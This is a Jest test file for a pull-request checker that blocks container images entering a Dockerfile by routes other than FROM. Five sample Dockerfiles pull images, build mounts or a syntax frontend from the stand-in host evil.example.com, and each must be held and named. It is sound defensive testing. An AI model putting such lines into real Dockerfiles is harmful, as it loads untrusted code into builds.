// Bypass 14: an image enters by another door than FROM.
import { expect, test } from '@jest/globals';
import { expectHeld, shown, stage } from './attack.ts';

const { opened, repository } = stage();

const LICENSE = '# SPDX-License-Identifier: Apache-2.0\n';

test.each([
  ['COPY --from', 'FROM scratch\nCOPY --from=evil.example.com/tool /t /t\n'],
  ['a mount', 'FROM debian:12.12-slim\nRUN --mount=type=bind,from=evil.example.com/tool,target=/t /t/run\n'],
  ['an ARG', 'ARG BASE=evil.example.com/base\nFROM ${BASE}\n'],
  // Below any other comment it would be one itself.
  ['a syntax line', '# syntax=evil.example.com/frontend:1\n%FROM debian:12.12-slim\n'],
  ['an ONBUILD', 'FROM debian:12.12-slim\nONBUILD COPY --from=evil.example.com/tool /t /t\n'],
])('%s is seen, and named', async (_, text) => {
  const pull = await opened(repository(), {
    files: { 'image/Dockerfile': text.includes('%') ? text.replace('%', LICENSE) : `${LICENSE}${text}` },
  });
  expectHeld(pull);
  expect(shown(pull)).toContain('evil.example.com');
});
